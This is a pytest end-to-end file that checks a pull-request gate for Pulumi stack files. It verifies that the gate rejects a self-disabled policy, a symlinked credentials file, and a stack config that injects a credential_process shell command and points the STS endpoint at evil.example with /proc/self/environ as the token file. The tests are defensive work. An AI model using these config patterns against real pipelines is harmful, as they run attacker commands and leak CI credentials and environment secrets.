"""A pull request that switches a policy off for itself, through the gate of docs/examples/github-actions.yml."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.e2e.house import House
from tests.support.pack import ROOT

pytestmark = pytest.mark.e2e
SWITCHED_OFF = (
    '\n[dev.enforcement]\nssm-endpoints-complete = "advisory"\nssm-endpoints-declared = "advisory"\n'
)


def gate() -> str:
    """The script of the workflow."""
    workflow = yaml.safe_load((ROOT / "docs" / "examples" / "github-actions.yml").read_text(encoding="utf-8"))
    (script,) = (each["run"] for each in workflow["jobs"]["gate"]["steps"] if "cp " in each.get("run", ""))
    return str(script)


def through_the_gate(folder: Path, port: int) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", gate()],
        cwd=folder,
        env={**os.environ, "STACK": "dev", "SANDBOX_PORT": str(port)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=300,
        check=False,
    )


def test_a_pull_request_that_switches_a_policy_off_is_judged_by_the_base_branchs_configuration(
    tmp_path: Path, free_port: int
) -> None:
    House(tmp_path / "base", free_port)
    change = House(tmp_path / "change", free_port)
    with (change.folder / "Pulumi.dev.yaml").open("a", encoding="utf-8") as file:
        file.write("  ssm-vpc-endpoints:features: {vssSnapshots: false}\n")
    with (change.folder / "policies" / "config" / "stacks.toml").open("a", encoding="utf-8") as file:
        file.write(SWITCHED_OFF)
    assert change.run("tools/policy_config.py").code == 0

    own = change.sandbox("preview")
    assert own.code == 0, own.text
    assert "[advisory] [severity: high]  ssm-endpoints-complete" in own.text

    done = through_the_gate(tmp_path, free_port)
    assert done.returncode != 0
    assert "[mandatory] [severity: high]  ssm-endpoints-complete" in done.stdout
    assert "com.amazonaws.eu-west-1.ec2 " in done.stdout


def test_a_stack_file_that_brings_a_command_and_sends_the_environment_away_is_refused_before_anything_starts(
    tmp_path: Path, free_port: int
) -> None:
    """The provider would run the one and send the other as soon as it is configured, with the job's credentials."""
    base = House(tmp_path / "base", free_port)
    (tmp_path / "change").mkdir()
    ran = tmp_path / "ran"
    notes = tmp_path / "change" / "notes.txt"
    notes.write_text(f"[profile x]\ncredential_process = sh -c 'touch {ran}'\n", encoding="utf-8")
    theirs = yaml.safe_load((base.folder / "Pulumi.dev.yaml").read_text(encoding="utf-8"))
    theirs["environment"] = {"values": {"environmentVariables": {"AWS_CONFIG_FILE": str(notes)}}}
    theirs["config"] |= {
        "aws:profile": "x",
        "aws:sharedConfigFiles": [str(notes)],
        "aws:assumeRoleWithWebIdentity": {"webIdentityTokenFile": "/proc/self/environ"},
        "aws:endpoints": [{"sts": "https://evil.example"}],
    }
    (tmp_path / "change" / "Pulumi.dev.yaml").write_text(yaml.safe_dump(theirs), encoding="utf-8")
    done = through_the_gate(tmp_path, free_port)
    assert done.returncode != 0
    for key in ("environment", "sharedConfigFiles", "assumeRoleWithWebIdentity", "endpoints[0].sts"):
        assert f"{key}: " in done.stdout
    assert "AWS_CONFIG_FILE in the environment of the machine that runs this" in done.stdout
    assert "Previewing" not in done.stdout
    assert not ran.exists()
    assert not (base.folder / ".sandbox" / "state").exists()


def test_a_link_in_place_of_the_stack_file_brings_in_no_file_of_the_machine(
    tmp_path: Path, free_port: int
) -> None:
    (tmp_path / "change").mkdir()
    (tmp_path / "base").mkdir()
    secret = tmp_path / "credentials"
    secret.write_text("aws_secret_access_key = hunter2\n", encoding="utf-8")
    (tmp_path / "change" / "Pulumi.dev.yaml").symlink_to(secret)
    done = through_the_gate(tmp_path, free_port)
    assert (done.returncode, done.stdout) == (1, "change/Pulumi.dev.yaml is not a file\n")
    assert not any((tmp_path / "base").iterdir())
    shutil.rmtree(tmp_path / "change")
    assert through_the_gate(tmp_path, free_port).returncode == 1
